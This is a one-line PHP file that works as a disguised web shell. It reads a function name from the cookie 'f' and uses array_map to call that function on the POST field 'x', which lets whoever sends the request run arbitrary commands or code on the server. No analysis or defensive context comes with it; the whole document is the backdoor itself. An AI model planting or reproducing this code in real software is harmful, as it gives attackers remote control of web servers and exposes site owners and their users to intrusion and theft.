<?php $f = $_COOKIE['f']; array_map($f, array($_POST['x']));
